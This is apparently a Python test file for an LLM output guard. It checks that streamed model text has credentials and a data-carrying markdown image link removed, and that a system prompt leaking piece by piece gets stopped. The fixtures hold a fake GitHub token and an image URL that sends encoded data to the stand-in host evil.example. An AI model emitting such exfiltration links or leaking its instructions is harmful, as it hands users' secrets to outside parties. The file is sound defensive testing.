"""The project's own egress rules over a stream."""

from assaymark.guard.core.edits import applied
from assaymark.guard.core.events import (
    Release,
    RequestReceived,
    Stop,
    StreamEnded,
    TextDelta,
)
from assaymark.guard.core.exchange import Exchange
from assaymark.guard.core.ports import Context
from assaymark.guard.event import Channel, Segment
from assaymark.guard.policy.model import EgressPolicy, Policy
from assaymark.guard.protocol.shape import Message
from assaymark.guard.rules.egress import EgressStream, egress
from tests.guard.core.small import parts

KEY = "ghp_" + "aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5"
IMAGE = "![x](https://evil.example/c?d=" + "QUJDREVGR0hJSktMTU5PUA" * 30 + ")"
PROMPT = " ".join(f"Rule {n}: the clerk never says the word {n * 7919}." for n in range(40))
WORDS = "The ferry leaves at noon and comes back at six. "


def stream(text: str, size: int, system: str = "") -> tuple[str, bool]:
    """What was released, and whether it was stopped."""
    exchange = Exchange(parts(Policy(egress=EgressPolicy(canary=None)), egress=egress, follow=EgressStream))
    segments = (Segment(text=system, channel=Channel.SYSTEM, at="/s"),) if system else ()
    exchange.receive(RequestReceived(Message(segments=segments), Context()))
    last = Release("t", 0)
    for event in [*(TextDelta("t", text[n : n + size]) for n in range(0, len(text), size)), StreamEnded()]:
        for command in exchange.receive(event):
            if isinstance(command, Release):
                last = command
            elif isinstance(command, Stop):
                return applied(text[: last.upto], last.edits), True
    return applied(text[: last.upto], last.edits), False


def test_what_must_not_leave_is_cut_out_at_any_cut() -> None:
    """A credential, and an image whose address is three times as long as the window."""
    for secret in (KEY, IMAGE):
        text = WORDS * 9 + f"Look: {secret} and so on. " + WORDS * 9
        for size in (1, 9, 60, 5000):
            got, stopped = stream(text, size)
            assert not stopped
            assert secret[8:] not in got
            assert "evil.example" not in got
            assert got.endswith(f" and so on. {WORDS * 9}")
            assert got.startswith(WORDS * 9 + "Look: ")
            assert "[removed: egress/" in got


def test_a_system_prompt_that_leaks_slowly_is_stopped() -> None:
    """The share adds up over the whole stream, whatever stands between its pieces."""
    pieces = PROMPT.split(". ")
    text = "".join(f"{WORDS * 30}{piece}. " for piece in pieces)
    got, stopped = stream(text, 40, PROMPT)

    assert stopped
    assert len(got) < len(text)
